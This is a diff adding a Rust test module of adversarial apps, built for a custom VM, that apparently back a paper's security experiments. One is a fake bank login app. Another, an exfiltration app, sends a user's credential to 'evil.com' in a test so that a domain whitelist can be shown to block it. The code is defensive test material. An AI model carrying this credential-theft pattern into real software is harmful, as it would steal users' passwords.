@@ -1,0 +1,105 @@
+//! Adversarial applications for the security experiments (§3.4, §5.2).
+//!
+//! * [`build_phishing_app`] — looks like a bank login but is a *different
+//!   image* (different dex hash); the app↔cor binding on the trusted node
+//!   rejects it.
+//! * [`build_exfiltration_app`] — a compromised app that selects the real
+//!   cor description but sends the credential to the attacker's server;
+//!   the cor↔domain whitelist rejects the send.
+//! * [`build_residue_probe`] — a forensic "app" that never touches cor but
+//!   whose run leaves a marker we can search for, validating the scanner's
+//!   sensitivity (a scanner that finds nothing must be shown able to find
+//!   *something*).
+
+use tinman_vm::{AppImage, Insn, ProgramBuilder};
+
+/// A fake bank app: identical *flow* to a login app but distinct code, so
+/// its image hash differs from the bound app's.
+pub fn build_phishing_app(bank_domain: &str, cor_description: &str) -> AppImage {
+    let mut p = ProgramBuilder::new("totally-legit-bank");
+    let n_select = p.native("ui.select_cor");
+    let n_connect = p.native("net.connect");
+    let n_handshake = p.native("net.tls_handshake");
+    let n_send = p.native("net.send");
+    let n_close = p.native("net.close");
+    let s_domain = p.string(bank_domain);
+    let s_desc = p.string(cor_description);
+    let s_prefix = p.string("user=victim&round=0&pass=");
+
+    let main = p.define("main", 0, 4, |b, _| {
+        // Phishing marker: some distinct extra work so the hash differs
+        // from every legitimate app.
+        b.const_i(1337).const_i(2).op(Insn::Mul).op(Insn::Pop);
+        b.op(Insn::ConstS(s_desc)).op(Insn::CallNative(n_select, 1)).store(0);
+        b.op(Insn::ConstS(s_domain)).const_i(443).op(Insn::CallNative(n_connect, 2)).store(1);
+        b.load(1).op(Insn::CallNative(n_handshake, 1)).op(Insn::Pop);
+        // body = prefix + cor  (trigger), then send.
+        b.op(Insn::ConstS(s_prefix)).load(0).op(Insn::StrConcat).store(2);
+        b.load(1).load(2).op(Insn::CallNative(n_send, 2)).store(3);
+        b.load(1).op(Insn::CallNative(n_close, 1)).op(Insn::Pop);
+        b.load(3).op(Insn::Halt);
+    });
+    p.build(main)
+}
+
+/// An app (or a compromised legitimate app) that tries to post the cor to
+/// `evil_domain` instead of the whitelisted site.
+pub fn build_exfiltration_app(evil_domain: &str, cor_description: &str) -> AppImage {
+    let mut p = ProgramBuilder::new("exfiltrator");
+    let n_select = p.native("ui.select_cor");
+    let n_connect = p.native("net.connect");
+    let n_handshake = p.native("net.tls_handshake");
+    let n_send = p.native("net.send");
+    let n_close = p.native("net.close");
+    let s_domain = p.string(evil_domain);
+    let s_desc = p.string(cor_description);
+    let s_prefix = p.string("stolen=");
+
+    let main = p.define("main", 0, 4, |b, _| {
+        b.op(Insn::ConstS(s_desc)).op(Insn::CallNative(n_select, 1)).store(0);
+        b.op(Insn::ConstS(s_domain)).const_i(443).op(Insn::CallNative(n_connect, 2)).store(1);
+        b.load(1).op(Insn::CallNative(n_handshake, 1)).op(Insn::Pop);
+        b.op(Insn::ConstS(s_prefix)).load(0).op(Insn::StrConcat).store(2);
+        b.load(1).load(2).op(Insn::CallNative(n_send, 2)).store(3);
+        b.load(1).op(Insn::CallNative(n_close, 1)).op(Insn::Pop);
+        b.load(3).op(Insn::Halt);
+    });
+    p.build(main)
+}
+
+/// Writes a known marker everywhere a leak could land: heap, disk, device
+/// log. The residue scanner must find all three.
+pub fn build_residue_probe(marker: &str) -> AppImage {
+    let mut p = ProgramBuilder::new("residue-probe");
+    let n_log = p.native("sys.log");
+    let n_disk = p.native("disk.write");
+    let s_marker = p.string(marker);
+    let main = p.define("main", 0, 1, |b, _| {
+        // Heap copy (so a fresh object holds the marker, not just the
+        // interned constant).
+        b.op(Insn::ConstS(s_marker)).op(Insn::ConstS(s_marker)).op(Insn::StrConcat).store(0);
+        b.op(Insn::ConstS(s_marker)).op(Insn::CallNative(n_log, 1)).op(Insn::Pop);
+        b.op(Insn::ConstS(s_marker)).op(Insn::CallNative(n_disk, 1)).op(Insn::Pop);
+        b.const_i(1).op(Insn::Halt);
+    });
+    p.build(main)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::logins::{build_login_app, LoginAppSpec};
+
+    #[test]
+    fn phishing_app_hash_differs_from_legit_app() {
+        let legit = build_login_app(&LoginAppSpec::paypal());
+        let phish = build_phishing_app("paypal.com", "PayPal password");
+        assert_ne!(legit.hash(), phish.hash());
+    }
+
+    #[test]
+    fn adversarial_apps_build() {
+        assert_eq!(build_exfiltration_app("evil.com", "PayPal password").name, "exfiltrator");
+        assert_eq!(build_residue_probe("MARKER").name, "residue-probe");
+    }
+}
